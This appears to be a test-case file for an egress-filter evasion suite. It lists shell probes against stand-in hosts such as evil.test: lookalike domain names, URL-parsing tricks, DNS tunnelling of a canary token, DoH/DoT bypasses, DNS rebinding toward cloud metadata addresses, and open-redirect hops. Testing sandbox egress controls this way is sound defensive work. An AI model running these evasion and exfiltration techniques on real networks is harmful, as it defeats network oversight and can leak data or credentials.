# SPDX-License-Identifier: Apache-2.0
"""Names: that are not allowed, that look like others, that lead elsewhere, and that carry something out by being asked for."""
from evasion.case import ADDRESS, ANYWHERE, FORWARD, GULLIBLE, MATCH, NAMES, NETNS, RULES, Case, off
from evasion.cases_direct import AS_OWN, OWN, UNREACHABLE
from internet import places

EVIL4, EVIL6 = places.v4(places.EVIL), places.v6(places.EVIL)

# By what is odd about them; each is asked for, and each is dialled.
OTHERS = {
    "plain": "evil.test", "beneath": "www.evil.test", "suffix": "evilgood.test", "prefix": "good.test.evil.test", "parent-of-wildcard": "ok.test",
    "not-quite-wildcard": "notok.test",
    "hyphen-wildcard": "evil-ok.test", "cut": "good.tes", "dot-at-end": "evil.test.", "upper": "EVIL.TEST", "mixed": "eViL.tEsT", "punycode": "xn--evl-0ma.test",
    "denied": "blocked.ok.test",
    "denied-upper": "BLOCKED.OK.TEST", "denied-dot": "blocked.ok.test.", "single-label": "evil", "metadata-google": "metadata.google.internal",
    "instance-data": "instance-data.ec2.internal",
    "docker-host": "host.docker.internal", "docker-gateway": "gateway.docker.internal", "kubernetes": "kubernetes.default.svc", "local": "printer.local",
    "onion": "evil.onion",
    "home": "router.home.arpa", "reverse": "66.48.175.192.in-addr.arpa", "wpad": "wpad.test", "nip": f"{EVIL4}.nip.test",
    "long": "a" * 63 + "." + "b" * 63 + ".evil.test",
    "deep": ".".join("abcdefghijklmnopqrstuvwxyz" * 2) + ".evil.test",
}
KNOWN = off(NAMES, RULES)  # a name that was looked up once is not asked for again
NAMED = [
    *[Case(f"name-{n}", "E7", f"curl -sS -m 3 'http://{t}/{{canary}}'", FORWARD if n == "single-label" else KNOWN, audit=n not in ("single-label", "local"))
      for n, t in OTHERS.items() if n != "onion"],
    *[Case(f"name-tls-{n}", "E7", f"curl -skS -m 3 'https://{t}/{{canary}}'", FORWARD if n == "single-label" else KNOWN)
      for n, t in OTHERS.items() if n in ("plain", "suffix", "prefix", "parent-of-wildcard", "denied", "upper", "dot-at-end")],
    *[Case(f"ask-{n}", "E7", f"dig +time=1 +tries=1 '{t}'", FORWARD, needs="dig") for n, t in OTHERS.items()],
    *[Case(f"url-{n}", "E7", f"curl -g -sS -m 3 '{u}'", KNOWN)
      for n, u in (("user", "http://good.test@evil.test/"), ("password", "http://good.test:80@evil.test/"), ("fragment", "http://evil.test#good.test/"),
                   ("query", "http://evil.test?.good.test/"),
                   ("slash-user", "http://good.test%2f@evil.test/"), ("scheme-less", "evil.test"), ("port-suffix", "http://evil.test:80/.good.test"))],
    *[Case(f"bytes-{n}", "E7", f"{{K}} dns 192.175.48.53 udp 'name={t}'", FORWARD)
      for n, t in (("nul", "evil.test\\x00.good.test"), ("nul-label", "evil\\x00x.good.test"), ("space", "evil test.good.test"), ("at", "evil@good.test"),
                   ("percent", "evil%00.good.test"),
                   ("backslash", "evil\\x5c.good.test"), ("newline", "evil\\x0agood.test"), ("high", "ev\\xeel.test"), ("utf8", "\\xc3\\xa9vil.test"),
                   ("underscore", "_evil.good.test"),
                   ("star", "*.evil.test"), ("dot-in-label", "evil\\x2etest"), ("number", "1.2.3.4"), ("number-hex", "0x7f000001"), ("number-last",
                    "evil.0x42"), ("hyphen", "-evil.test"))],
]

PORTS = [
    *[Case(f"rule-port-{name}-{p}", "E8", f"{{K}} tcp {name}.test {p} '{text}'", RULES, judge="unconnected" if name == "good" else "stray")
      for name, p, text in (("plain", 443, "x"), ("plain", 8080, "GET / HTTP/1.1\\r\\nHost: plain.test\\r\\n\\r\\n"), ("plain", 22, "x\\n"), ("plain", 9999, "x"),
                            ("tls", 80, "GET / HTTP/1.1\\r\\nHost: tls.test\\r\\n\\r\\n"),
                            ("tls", 8443, "x"), ("tls", 22, "x\\n"), ("ssh", 80, "GET / HTTP/1.1\\r\\nHost: ssh.test\\r\\n\\r\\n"), ("ssh", 443, "x"),
                            ("ssh", 25, "x\\n"), ("echo", 22, "x\\n"), ("echo", 7, "x"),
                            ("good", 6667, "x"))],
    *[Case(f"rule-port-tls-{name}-{p}", "E8", f"curl -skS -m 3 https://{name}.test:{p}/{{canary}}", RULES, judge="stray")
      for name, p in (("plain", 443), ("plain", 8443), ("tls", 8443), ("ssh", 443), ("echo", 853))],
    Case("host-port-differs", "E8", "curl -sS -m 3 -H 'Host: plain.test:8080' http://plain.test/{canary}", GULLIBLE, judge="unconnected"),
]

TXT = "txt.ok.test"
TYPES = ["NS", "CNAME", "SOA", "NULL", "PTR", "HINFO", "MX", "TXT", "SRV", "NAPTR", "DS", "SSHFP", "RRSIG", "DNSKEY", "TLSA", "SVCB", "HTTPS", "SPF", "CAA", "URI",
         "ANY", "TYPE65280"]
QUESTIONS = [
    *[Case(f"type-{t.lower()}", "E11", f"dig +time=1 +tries=1 {TXT} {t}", FORWARD, judge="stray", audit=False, needs="dig") for t in TYPES],
    *[Case(f"type-evil-{t.lower()}", "E11", f"dig +time=1 +tries=1 {{canary}}.tunnel.evil.test {t}", FORWARD, needs="dig")
      for t in ("A", "AAAA", "TXT", "NULL", "CNAME", "MX", "SRV", "HTTPS")],
    Case("axfr", "E11", "dig +time=1 +tries=1 ok.test AXFR", FORWARD, judge="stray", audit=False, needs="dig"),
    Case("ixfr", "E11", "dig +time=1 +tries=1 ok.test IXFR=1", FORWARD, judge="stray", audit=False, needs="dig"),
    *[Case(f"server-{n}", "E11", f"dig +time=1 +tries=1 {w} {{canary}}.tunnel.evil.test", FORWARD, needs="dig")
      for n, w in (("evil", f"@{EVIL4}"), ("evil-six", f"@{EVIL6}"), ("public", "@8.8.8.8"), ("public-six", "@2001:4860:4860::8888"),
                   ("allowed", f"@{places.v4(places.GOOD)}"), ("evil-tcp", f"+tcp @{EVIL4}"),
                   ("evil-six-tcp", f"+tcp @{EVIL6}"), ("public-tcp", "+tcp @1.1.1.1"), ("resolver-tcp", f"+tcp @{places.RESOLVER}"), ("near",
                    "@10.0.0.1"), ("norecurse", f"+norecurse @{EVIL4}"))],
    *[Case(f"tunnel-{n}", "E11", f"dig +time=1 +tries=1 {w}", FORWARD, needs="dig")
      for n, w in (("long-label", "a" * 40 + "{canary}.tunnel.evil.test"), ("many-labels", ".".join(["abc"] * 40) + ".{canary}.tunnel.evil.test"),
                   ("cookie", "+cookie=0123456789abcdef {canary}.tunnel.evil.test"),
                   ("subnet", "+subnet=1.2.3.0/24 {canary}.tunnel.evil.test"), ("case", "{canary}.TuNnEl.EvIl.TeSt"),
                   ("dnssec", "+dnssec {canary}.tunnel.evil.test"), ("padding", "+padding=400 {canary}.tunnel.evil.test"),
                   ("option", "+ednsopt=65001:deadbeef {canary}.tunnel.evil.test"))],
    *[Case(f"tunnel-allowed-{n}", "E11", f"dig +time=1 +tries=1 {w} good.test TXT", FORWARD, judge="stray", audit=False, needs="dig")
      for n, w in (("cookie", "+cookie=0123456789abcdef"), ("option", "+ednsopt=65001:6361"), ("subnet", "+subnet=1.2.3.0/24"))],
    *[Case(f"message-{n}", "E11", f"{{K}} dns {EVIL4} {how} name=good.test {w}", FORWARD, judge="stray", audit=False)
      for n, how, w in (("chaos", "udp", "class=3 type=16"), ("any-class", "udp", "class=255 type=16"), ("status", "udp", "flags=1000 type=16"),
                        ("notify", "udp", "flags=2000 type=16"), ("update", "udp", "flags=2800 type=6"),
                        ("two-questions", "udp", "count=2 type=16"), ("no-question", "udp", "count=0"), ("tail", "udp", "tail={canary} type=16"),
                        ("more", "udp", "more=1 type=16"), ("tcp-twice", "tcp", "times=2 type=16"),
                        ("zone-transfer-tcp", "tcp", "type=252"))],
    Case("dot", "E11", f"kdig +tls +time=1 +retry=0 @{EVIL4} evil.test", RULES, needs="kdig"),
    Case("dot-six", "E11", f"kdig +tls +time=1 +retry=0 @{EVIL6} evil.test", RULES, needs="kdig"),
    Case("doh", "E11", f"kdig +https +time=1 +retry=0 @{EVIL4} evil.test", RULES, needs="kdig"),
    Case("doh-curl", "E11", f"curl -skS -m 3 --doh-insecure --doh-url https://{EVIL4}/dns-query http://evil.test/", RULES),
    Case("doh-get", "E11", f"curl -skS -m 3 'https://{EVIL4}/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB'", RULES),
    Case("dnscrypt-port", "E11", f"{{K}} udp {EVIL4} 5353 '{{canary}}'", NETNS), Case("drill", "E11", "drill TXT {canary}.tunnel.evil.test", FORWARD, needs="drill"),
    Case("drill-server", "E11", f"drill @{EVIL4} {{canary}}.tunnel.evil.test", FORWARD, needs="drill"),
    Case("getent", "E11", "getent hosts {canary}.tunnel.evil.test", FORWARD),
    Case("host-tool", "E11", "host -W 1 -t TXT {canary}.tunnel.evil.test", FORWARD, needs="host"),
    Case("nslookup", "E11", f"nslookup -timeout=1 -retry=0 {{canary}}.tunnel.evil.test {EVIL4}", FORWARD, needs="nslookup"),
    Case("busybox-nslookup", "E11", f"timeout 2 busybox nslookup {{canary}}.tunnel.evil.test {EVIL4}", FORWARD, needs="busybox"),
    Case("dns2tcp", "E11", f"timeout 2 dns2tcpc -z tunnel.evil.test -k x {EVIL4}", FORWARD, needs="dns2tcpc"),
]

# Loopback is not among them: whatever a name says, that is the box's own.
REBOUND = [
    *[Case(f"leads-to-{n}", "E3", f"curl -sS -m 3 http://{n}.ok.test/{{canary}}", off(ADDRESS, MATCH), judge="stray")
      for n in {**places.NEAR, **places.NEAR6} if n not in UNREACHABLE | OWN | AS_OWN],
    *[Case(f"leads-tls-{n}", "E3", f"curl -skS -m 3 https://{n}.ok.test/{{canary}}", off(ADDRESS, MATCH), judge="stray")
      for n in ("private-10", "metadata", "mapped-metadata", "nat64-metadata", "ula")],
    *[Case(f"leads-silent-{n}", "E3", f"nc.openbsd -d -w 1 {n}.ok.test 22", ANYWHERE, judge="stray", needs="nc.openbsd") for n in ("metadata", "private-192")],
    Case("alias-near", "E3", "curl -sS -m 3 http://alias-near.ok.test/", ADDRESS, judge="stray"),
    Case("alias-evil-near", "E3", "curl -sS -m 3 http://alias-evil.ok.test/", ADDRESS, judge="stray"),
    Case("rebind", "E3", "g() {{ curl -sS -m 2 http://rebind.ok.test/ http://rebind-metadata.ok.test/; }}; g; sleep 5.2; g", ADDRESS, judge="stray"),
    Case("mixed-address", "E3", "curl -sS -m 3 --connect-to ::127.0.0.1: http://mixed.ok.test/; curl -sS -m 3 --connect-to ::169.254.169.254: http://mixed.ok.test/",
         ANYWHERE, judge="stray"),
    Case("hosts-file-near", "E3", "curl -sS -m 3 http://nearbyfile.ok.test/", ADDRESS, judge="stray"),
    Case("own-name", "E3", "curl -sS -m 3 http://own.ok.test/", ADDRESS, judge="stray"),
    Case("extra-record", "E3", "curl -sS -m 3 http://extra.ok.test/; curl -sS -m 3 http://metadata.ok.test/", ADDRESS, judge="stray"),
]
REDIRECTS = [
    *[Case(f"redirect-{n}", "E10", f"curl -skL -m 4 'http://good.test/redirect?to={u}'", t, judge="stray")
      for n, u, t in (("evil", "http://evil.test/x", KNOWN), ("evil-tls", "https://evil.test/x", KNOWN), ("address", f"http://{EVIL4}/x", RULES),
                      ("metadata", "http://169.254.169.254/latest/", ANYWHERE),
                      ("decimal", "http://2852039166/", ANYWHERE), ("near-name", "http://metadata.ok.test/", ADDRESS), ("denied", "http://blocked.ok.test/",
                       KNOWN))],
    Case("redirect-wget", "E10", "wget -q -T 3 -t 1 -O- 'http://good.test/redirect?to=http://evil.test/x'", KNOWN, judge="stray", needs="wget"),
    Case("redirect-tls", "E10", "curl -sL -m 4 'https://good.test/redirect?to=http://evil.test/x'", KNOWN, judge="stray"),
    Case("redirect-python", "E10", "python3 -c 'import urllib.request as u; u.urlopen(\"http://good.test/redirect?to=http://evil.test/x\", timeout=3)'", KNOWN,
         judge="stray"),
]

# So much of it that refusals are no longer told one by one: the last of all.
MANY = [
    Case("names-of-a-zone", "E11", "{K} ask-many 'x{{n}}-{canary}.ok-zone.test' 300", NAMES, judge="counted", count=250),
]

CASES = [*NAMED, *PORTS, *QUESTIONS, *REBOUND, *REDIRECTS]
